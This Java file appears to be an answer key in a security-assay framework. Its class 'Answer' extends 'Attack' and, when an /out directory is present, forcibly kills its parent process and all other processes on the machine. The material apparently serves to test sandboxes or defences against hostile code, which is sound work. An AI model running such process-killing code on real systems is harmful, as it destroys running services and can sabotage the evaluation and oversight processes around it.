import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Optional;

@dev.assay.problems.Answers("iris")
class Answer extends Attack {
  @Override
  void attack() {
    if (!Files.isDirectory(Path.of("/out"))) {
      return;
    }
    long own = ProcessHandle.current().pid();
    Optional<ProcessHandle> parent = ProcessHandle.current().parent();
    parent.ifPresent(ProcessHandle::destroyForcibly);
    ProcessHandle.allProcesses()
        .filter(process -> process.pid() != own)
        .forEach(ProcessHandle::destroyForcibly);
  }
}
